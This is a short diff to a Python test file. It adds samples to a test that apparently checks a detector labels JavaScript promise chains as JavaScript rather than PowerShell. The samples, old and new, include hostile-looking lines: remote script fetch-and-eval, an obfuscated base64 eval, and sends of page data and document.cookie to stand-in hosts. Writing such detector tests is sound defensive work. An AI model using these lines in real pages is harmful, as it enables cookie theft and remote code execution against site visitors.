@@ -254,6 +254,8 @@ def test_javascripts_eval_call_is_no_sign_of_a_shell() -> None:
     [
         "fetch('https://cdn-'+'stats.test/a.js').then(r => r.text()).then(eval)",
         "fetch('/a').then(r=>r.text()).then(t=>fetch('https://x.test/a?d='+btoa(t)))",
+        "window['ev'+'al'](atob('ZmV0Y2goJ2h0dHBzOi8veC50ZXN0Jyk='))",
+        "fetch('https://x.test/c?d='+document.cookie)",
     ],
 )
 def test_a_promise_chain_is_javascript_not_powershell(text: str) -> None:
